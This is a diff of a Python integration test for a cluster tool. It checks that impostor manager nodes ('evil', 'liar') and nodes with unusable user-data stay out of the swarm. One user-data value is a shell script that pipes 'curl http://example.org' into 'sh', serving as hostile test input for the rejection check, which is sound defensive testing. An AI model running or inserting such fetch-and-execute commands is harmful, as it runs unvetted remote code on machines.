@@ -11,20 +11,24 @@ from .cluster import Cluster, until
 
 
 def test_nodes_form_one_swarm_as_planned_and_those_with_wrong_orders_stay_out(cluster: Cluster) -> None:
-    """Given right groups, a pool that says manager, and two whose user-data cannot be used."""
+    """Given right groups, two pools that say manager, there first, and two with user-data of no use."""
     made = cluster.made
     subnets = list(made.subnets.values())
-    evil = made.user_data("manager", "manager-evil-1") | {"group": "quorate-hand-worker-evil"}
-    made.pools["evil"] = 1
+    slot = made.slots()[0][0]
+    made.pools |= {"evil": 1, "liar": 1}
     made.write_plan()
-    made.pools.pop("evil")
+    evil = made.user_data("manager", slot) | {"group": "quorate-hand-worker-evil"}
     made.group("worker", "evil", subnets, 1, json.dumps(evil).encode())
+    liar = made.user_data("manager", slot)
+    made.group("worker", "liar", subnets, 1, json.dumps(liar).encode())
+    del made.pools["evil"], made.pools["liar"]
+    until(lambda: cluster.said("join").count("trying again") == 2)
     made.group("worker", "script", subnets, 1, b"#!/bin/sh\ncurl http://example.org | sh\n")
     foreign = made.user_data("worker", "foreign") | {"schema": 7}
     made.group("worker", "foreign", subnets, 1, json.dumps(foreign).encode())
 
     made.launch()
-    until(lambda: len([n for n in cluster.nodes() if n.reachable]) == 5 and len(cluster.nodes()) == 9)
+    until(lambda: len([n for n in cluster.nodes() if n.reachable]) == 5 and len(cluster.nodes()) == 10)
     until(lambda: all(node.labels.get("quorate.zone") for node in cluster.nodes()))
 
     nodes = cluster.nodes()
@@ -38,7 +42,7 @@ def test_nodes_form_one_swarm_as_planned_and_those_with_wrong_orders_stay_out(cl
         assert node.labels["quorate.zone"] == hosts[node.address].zone
         assert node.availability == ("drain" if node.reachable else "active")
     workers = Counter(node.labels.get("quorate.pool") for node in nodes if not node.member)
-    assert workers == {"general": 3, "evil": 1}
+    assert workers == {"general": 3, "evil": 1, "liar": 1}
     assert all(
         node.labels["tier"] == "general" for node in nodes if node.labels.get("quorate.pool") == "general"
     )
